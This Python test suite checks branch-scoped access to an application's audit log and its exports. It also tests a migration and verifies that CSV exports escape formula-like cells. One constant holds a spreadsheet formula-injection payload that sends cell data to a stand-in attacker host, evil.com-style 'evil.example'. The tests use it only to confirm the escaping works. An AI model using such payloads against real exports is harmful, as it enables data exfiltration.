"""The audit log is scoped by branch like every other resource, and its CSV exports are formula-safe.

Every audit event carries a branch (the acting user's, or the target's for system actions on one);
a user sees the events of their own branch's subtree, ``branch_id`` narrows that to a branch inside
it (outside it: 404), and only head office (the root scope) sees events that have no branch.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from dualrec.bootstrap.container import Container
from dualrec.db.engine import make_engine
from dualrec.db.migrate import upgrade
from tests.conftest import ADMIN_PASSWORD, CSRF, login
from tests.services import isolated_database_url

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


@pytest.fixture
def org(app_client: TestClient, container: Container, make_user: Callable[..., str]) -> dict[str, int]:
    """Users in three branches, each of whom has logged in once; the ids of the branches."""
    for username, role, branch in (
        ("bj_aud", "auditor", "BJ"),
        ("bjcy_iv", "interviewer", "BJ-CY"),
        ("sh_iv", "interviewer", "SH-PD"),
        ("sh_aud", "auditor", "SH"),
    ):
        make_user(username, role, branch)
        login(app_client, username)
        app_client.cookies.clear()
    with container.uows() as uow:
        ids = {code: uow.branches.by_code(code) for code in ("HQ", "BJ", "BJ-CY", "SH", "SH-PD")}
    return {code: b.id for code, b in ids.items() if b is not None}


def _events(client: TestClient, **params: object) -> list[dict[str, object]]:
    r = client.get("/api/v1/audit-events", params={"page_size": 500, **params})
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["total"] == len(body["items"])
    items: list[dict[str, object]] = body["items"]
    return items


def _csv(client: TestClient, url: str, **params: object) -> list[dict[str, str]]:
    r = client.get(url, params=params)
    assert r.status_code == 200, r.text
    return list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))


def test_a_branch_auditor_sees_only_their_subtree(app_client: TestClient, org: dict[str, int]) -> None:
    login(app_client, "bj_aud")
    events = _events(app_client)
    actors = {e["actor"] for e in events}
    assert {"bj_aud", "bjcy_iv"} <= actors
    assert not actors & {"sh_iv", "sh_aud", "admin"}
    assert {e["branch_id"] for e in events} == {org["BJ"], org["BJ-CY"]}
    # the CSV export holds exactly the same events
    rows = _csv(app_client, "/api/v1/audit-events/export.csv")
    assert sorted(int(r["id"]) for r in rows) == sorted(int(str(e["id"])) for e in events)


def test_a_branch_auditor_sees_failed_logins_against_their_users(
    app_client: TestClient, org: dict[str, int]
) -> None:
    """A failed login is anonymous, but it targets a user of a branch: that branch's auditor sees it
    (someone guessing their interviewer's password), the other branch's does not."""
    r = app_client.post("/api/v1/auth/login", json={"username": "bjcy_iv", "password": "guess"}, headers=CSRF)
    assert r.status_code == 401
    login(app_client, "bj_aud")
    failed = [e for e in _events(app_client, action="auth.login_failed") if e["target_id"]]
    assert failed and {e["branch_id"] for e in failed} == {org["BJ-CY"]}
    app_client.cookies.clear()
    login(app_client, "sh_aud")
    assert not [e for e in _events(app_client, action="auth.login_failed") if e["target_id"]]


def test_the_branch_filter_narrows_within_the_scope(app_client: TestClient, org: dict[str, int]) -> None:
    login(app_client, "bj_aud")
    only_cy = _events(app_client, branch_id=org["BJ-CY"])
    assert "bjcy_iv" in {e["actor"] for e in only_cy} and "bj_aud" not in {e["actor"] for e in only_cy}
    assert {e["branch_id"] for e in only_cy} == {org["BJ-CY"]}
    rows = _csv(app_client, "/api/v1/audit-events/export.csv", branch_id=org["BJ-CY"])
    assert {r["actor"] for r in rows} == {e["actor"] for e in only_cy}
    # another branch's subtree looks like a branch that does not exist, in the list and every export
    for url in (
        "/api/v1/audit-events",
        "/api/v1/audit-events/export.csv",
        "/api/v1/audit-exports/operations",
        "/api/v1/audit-exports/operations.csv",
        "/api/v1/audit-exports/operations.pdf",
    ):
        assert app_client.get(url, params={"branch_id": org["SH"]}).status_code == 404, url


def test_head_office_sees_every_event_and_can_filter(app_client: TestClient, org: dict[str, int]) -> None:
    login(app_client, "admin", ADMIN_PASSWORD)
    events = _events(app_client)
    assert {"bj_aud", "bjcy_iv", "sh_iv", "sh_aud", "admin"} <= {e["actor"] for e in events}
    assert None in {e["branch_id"] for e in events}  # system events (the demo seed) have no branch
    sh = _events(app_client, branch_id=org["SH"])
    assert {e["branch_id"] for e in sh} == {org["SH"], org["SH-PD"]}
    assert {e["actor"] for e in sh} & {"sh_iv", "sh_aud"} == {"sh_iv", "sh_aud"}


def test_auditor_logs_are_scoped_the_same_way(app_client: TestClient, org: dict[str, int]) -> None:
    login(app_client, "sh_aud")
    preview = app_client.get("/api/v1/audit-exports/operations", params={"page_size": 500}).json()
    operators = {row["operator"] for row in preview["items"]}
    assert {"sh_aud", "sh_iv"} <= operators and not operators & {"bj_aud", "bjcy_iv", "admin"}
    rows = _csv(app_client, "/api/v1/audit-exports/operations.csv")
    assert {r["操作人"] for r in rows[1:]} == operators  # row 0 holds the English column keys
    narrowed = app_client.get("/api/v1/audit-exports/operations", params={"branch_id": org["SH-PD"]}).json()
    # sh_iv's login and the (system) creation of that user, both in SH-PD
    assert {row["operator"] for row in narrowed["items"]} == {"sh_iv", "anonymous"}


def test_csv_exports_never_carry_a_live_formula(
    app_client: TestClient, make_user: Callable[..., str], org: dict[str, int]
) -> None:
    # an anonymous attacker's User-Agent is written to the log with their failed login
    r = app_client.post(
        "/api/v1/auth/login",
        json={"username": "nobody", "password": "wrong-password"},
        headers={**CSRF, "User-Agent": FORMULA},
    )
    assert r.status_code == 401
    make_user("@SUM-1", "interviewer", "HQ")  # usernames may start with "@" or "-"
    login(app_client, "@SUM-1")
    app_client.cookies.clear()

    login(app_client, "admin", ADMIN_PASSWORD)
    rows = _csv(app_client, "/api/v1/audit-events/export.csv")
    failed = next(r for r in rows if r["action"] == "auth.login_failed" and "HYPERLINK" in r["user_agent"])
    assert failed["user_agent"] == "'" + FORMULA
    assert any(r["actor"] == "'@SUM-1" for r in rows)
    for row in rows:  # no cell of the export starts a formula
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row

    ops = list(
        csv.reader(io.StringIO(app_client.get("/api/v1/audit-exports/operations.csv").text.lstrip("\ufeff")))
    )
    assert sorted({row[2] for row in ops[2:] if "SUM" in row[2]}) == ["'@SUM-1"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in ops for cell in row)


INSERT_USER = (
    "INSERT INTO users (id, username, display_name, password_hash, role, branch_id, is_active, failed_logins,"
    " created_at, updated_at) VALUES (3, 'u', 'u', 'x', 'auditor', 7, :t, 0, :at, :at)"
)
INSERT_EVENT = (
    "INSERT INTO audit_events (at, actor, actor_id, action, target_type, target_id, outcome, ip, user_agent,"
    " details, prev_hash, hash) VALUES (:at, 'u', :aid, 'x', :tt, :ti, :o, :ip, :ua, :d, :h, :h)"
)


@pytest.mark.parametrize("kind", ["sqlite", "postgresql", "mysql"])
def test_migration_gives_earlier_events_their_users_branch(kind: str, tmp_path: Path) -> None:
    """Events logged before migration 0009 get the branch of the user who acted; the others none."""
    with isolated_database_url(kind, str(tmp_path)) as url:
        upgrade(url, "0008")
        engine = make_engine(url)
        now = datetime.now(UTC).replace(tzinfo=None)
        event = {"at": now, "tt": "", "ti": "", "o": "success", "ip": "", "ua": "", "d": "{}", "h": "0" * 64}
        with engine.begin() as conn:
            conn.execute(
                sa.text(
                    "INSERT INTO branches (id, name, code, path, created_at) VALUES (7, 'b', 'B', '/7/', :at)"
                ),
                {"at": now},
            )
            conn.execute(sa.text(INSERT_USER), {"at": now, "t": True})
            for actor_id in (3, None):
                conn.execute(sa.text(INSERT_EVENT), {**event, "aid": actor_id})
        upgrade(url, "0009")
        with engine.connect() as conn:
            rows = conn.execute(sa.text("SELECT actor_id, branch_id FROM audit_events ORDER BY id")).all()
        engine.dispose()
    assert [tuple(r) for r in rows] == [(3, 7), (None, None)]
